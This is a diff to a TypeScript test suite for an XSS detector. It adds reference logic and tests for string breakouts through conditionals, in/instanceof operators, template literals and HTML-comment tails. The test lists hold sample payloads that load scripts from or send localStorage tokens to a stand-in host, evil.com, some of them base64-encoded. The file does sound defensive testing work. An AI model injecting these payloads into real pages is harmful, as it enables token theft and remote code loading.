@@ -1280,11 +1280,16 @@ function refBreakout(s: string): boolean {
   const num = /^-?[0-9]{1,20}[)\]]*;[A-Za-z_$]/.exec(s.slice(k));
   while (k < s.length && k < 10 && s[k] === '\\') k++;
   let q = s[k];
+  // (Session 20: up to 16 identifier characters and 2 backslashes may come before the quote.)
+  const pre = /^[A-Za-z0-9_$]{1,16}\\{0,2}(['"`])/.exec(s.slice(k));
   if (num !== null) {
     k += num[0].length - 2;
     q = '';
-  } else if (q !== "'" && q !== '"' && q !== '`') return false;
-  else k++;
+  } else if (q !== "'" && q !== '"' && q !== '`') {
+    if (pre === null) return false;
+    q = pre[1]!;
+    k += pre[0].length;
+  } else k++;
   let stop = Math.min(s.length, k + 8);
   for (let c = 0; ; c++) {
     while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
@@ -1297,20 +1302,32 @@ function refBreakout(s: string): boolean {
     }
     break;
   }
-  if (k >= s.length || !';+-*|&^%,'.includes(s[k]!)) return false;
-  const head = k + 1;
+  if (k >= s.length) return false;
+  // (Session 20: in a quoted context also `?` (a conditional, with its `:` unless `??`) and the
+  // `in` / `instanceof` operators, each reopening the string after itself too.)
+  const op = s[k]!;
+  const w = q !== '' ? /^(instanceof|in)[ \t(\[/]/.exec(s.slice(k)) : null;
+  if (w === null && !';+-*|&^%,'.includes(op) && !(q !== '' && op === '?')) return false;
+  const head = w !== null ? k + w[1]!.length : k + 1;
   let e = s.length;
   while (e > head && s.charCodeAt(e - 1) <= 32) e--;
   if (e <= head) return false;
+  if (w === null && op === '?' && s[head] !== '?' && !s.slice(head).includes(':')) return false;
   let tail = -1;
   if (q !== '' && s[e - 1] === q) {
     let j = e - 2;
     while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
     if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
+    else if (j >= head && w === null && op === '?' && ':?'.includes(s[j]!)) tail = j;
+    else if (w !== null && new RegExp(`(^|[^A-Za-z0-9_$])${w[1]}$`).test(s.slice(head, j + 1)) && j + 1 - w[1]!.length > head) tail = j + 1 - w[1]!.length;
   }
   if (tail === -1) {
-    const t = s.lastIndexOf('//', e - 1);
-    if (t < head || s[t - 1] === ':' || /[\n\r\u2028\u2029]/.test(s.slice(t + 2, e))) return false;
+    // (Session 20: or `<!--`, the later of the two.)
+    let t = s.lastIndexOf('//', e - 1);
+    if (t < head || s[t - 1] === ':') t = -1;
+    const h = s.lastIndexOf('<!--', e - 1);
+    if (h >= head && h > t) t = h;
+    if (t === -1 || /[\n\r\u2028\u2029]/.test(s.slice(t + 2, e))) return false;
     tail = t;
   }
   const mid = s.slice(0, tail);
@@ -1516,4 +1533,114 @@ t.test('bracket names built by pieces in a breakout against a slow reference (ro
   }
   t.ok(flagged > 200, `${flagged} values flagged by the reference`);
   t.equal(verdictDigest(verdicts), '9bbd61c2', 'verdicts of the table pinned');
+});
+
+t.test('breakouts through a conditional, in / instanceof, and template-literal code (session 20)', async (t) => {
+  // Each high value passed at f2d1800 (allow at every paranoia).
+  const high = [
+    "'?import('//evil.com/x.js'):'",
+    "\"?fetch('//evil.com/'+localStorage.t):\"",
+    "'?1:import('//evil.com/x.js')//",
+    "'??import('//evil.com/x.js')??'",
+    "'in import('//evil.com/x.js')in'",
+    "'instanceof import('//evil.com/x.js')instanceof'",
+    "'in(import('//evil.com/x.js'))//",
+    "${import('//evil.com/x.js')}",
+    "x${ fetch('//evil.com/?'+localStorage.t) }y",
+    "${await import('//evil.com/x.js')}",
+    "${new WebSocket('wss://evil.com')}",
+    "${navigator.sendBeacon('//evil.com',localStorage.t)}",
+    "${location='//evil.com'}",
+    "${window.location.replace('//evil.com')}",
+    "${location.href = '//evil.com'}",
+    // The string's own text before the closing quote.
+    "a';import('//evil.com/x.js')//",
+    "abc\\';fetch('//evil.com/'+localStorage.t)//",
+    "x\"+fetch('//evil.com/?'+localStorage.t)+\"",
+    "1';import('//evil.com/x.js')//",
+    // An HTML-like comment as the tail.
+    "';fetch('https://evil.com/'+localStorage.t)<!--",
+    "';import(atob('Ly9ldmlsLmNvbS94Lmpz'))<!--",
+  ];
+  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(detectXss(v))}`);
+  const notHigh = [
+    "'in stock'",
+    '"in progress","fetch(x)","-"',
+    "'? Why call fetch() here? //later",
+    '"?page=2&q=import(x)//"',
+    "'inside fetch(x) //",
+    "'? see import('x') //",
+    '${location.origin}/api',
+    '${location.href}',
+    '${localStorage.token}',
+    '${atob(s)}',
+    'Bearer ${localStorage.getItem("t")}',
+    'Use `${setInterval(tick, 1000)}` here',
+    '${fetchAll(x)}',
+    '${user.fetch(x)}',
+    '${location == x}',
+    "O'Brien;fetch(x)//",
+    "It's fine; call fetch() later //",
+    "don't+fetch(x)//",
+    "two words';import(x)//",
+    "';fetch(x)<!--\nmore",
+    "'; see <!-- fetch(x) -->",
+  ];
+  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(detectXss(v))}`);
+});
+
+t.test('conditional and in / instanceof heads against the slow reference on a seeded table (session 20)', async (t) => {
+  // refBreakout reads the new heads with regexes and slices. (Planted in the detector: the `:`
+  // requirement dropped: 54 failing checks in this file; `instanceof` read as `in`: 38; no reopening
+  // after `:` / `?`: 34; the `<!--` tail ignored: 90, with the tails it has now.)
+  const heads = ["'?", '"??', "'in ", '`instanceof ', "'in(", "'?:", "'is ", "'inx ", "' ?", "'in\t"];
+  const tails = ['//', ":'", "?'", "in'", " instanceof'", "+'", '// x', '"', '://x', "xin'", '<!--', '<!-- x'];
+  const pieces = [...'\'"`;+-|&,)}] =(./*\n:?'].concat(['//', 'fetch', 'import', 'location', 'localStorage', 'src', 'open', 'alert', 'the', 'in', 'in ', 'instanceof', "'//evil.com'", 'x', 'new ', 'fetchy']);
+  let seed = 2020;
+  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
+  let flagged = 0;
+  const verdicts: string[] = [];
+  for (let i = 0; i < 40000; i++) {
+    let s = r() < 0.85 ? heads[Math.floor(r() * heads.length)]! : '';
+    const len = 1 + Math.floor(r() * 7);
+    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
+    if (r() < 0.85) s += tails[Math.floor(r() * tails.length)];
+    const d = detectXss(s);
+    const raw = refBreakout(s);
+    const ref = /[(=`]/.test(s) && raw;
+    if (ref) flagged++;
+    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
+    if (!raw && d?.reason.startsWith('A string breakout into code that loads')) t.fail(`detector's breakout rule without the reference: ${JSON.stringify(s)}`);
+    verdicts.push(verdictKey(d));
+  }
+  t.ok(flagged > 200, `${flagged} values flagged by the reference`);
+  // (736ff4d7 -> a845062d with the text before the quote, one value: `x'&localStorage//`; the table
+  // with `<!--` tails: 80481b7a.)
+  t.equal(verdictDigest(verdicts), '80481b7a', 'verdicts of the table pinned');
+});
+
+t.test('template-literal code: the whole prefix x name x follower table against its expected verdict (session 20)', async (t) => {
+  // High: a TPL_CALLS name called, or `location` assigned / sent, at the start of `${…}` (after
+  // blanks, `await` / `new` / `void`, one global root and `.`). (Planted: the root step dropped: 33
+  // failures; `location==x` read as an assignment: 6.)
+  const PRE: [string, boolean][] = [['${', true], ['${ ', true], ['x ${', true], ['${await ', true], ['${new ', true], ['${window.', true], ['${navigator.', true], ['${user.', false], ['${ fn', false], ['${x+', false], ['{', false]];
+  const CALLS = ['import', 'fetch', 'eval', 'Function', 'sendBeacon', 'WebSocket', 'EventSource', 'alert', 'prompt', 'confirm'];
+  const NAMES = [...CALLS, 'atob', 'fetchAll', 'setInterval', 'location', 'open', 'write'];
+  const FOL = ['(x)}', '`x`}', ' (x)}', '}', '.href=x}', '=x}', '==x}', '.origin}', '.assign(x)}', '.href}'];
+  let n = 0;
+  for (const [pre, starts] of PRE) {
+    for (const name of NAMES) {
+      for (const fol of FOL) {
+        const v = pre + name + fol;
+        const call = CALLS.includes(name) && (fol.startsWith('(') || fol.startsWith('`') || fol.startsWith(' ('));
+        const loc = name === 'location' && (fol === '.href=x}' || fol === '=x}' || fol === '.assign(x)}');
+        const want = starts && (call || loc);
+        const d = detectXss(v);
+        if (want && d?.confidence !== 'high') t.fail(`want high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+        if (!want && d?.reason.startsWith('A template literal expression')) t.fail(`want no template-code finding: ${JSON.stringify(v)}`);
+        n++;
+      }
+    }
+  }
+  t.equal(n, PRE.length * NAMES.length * FOL.length);
 });
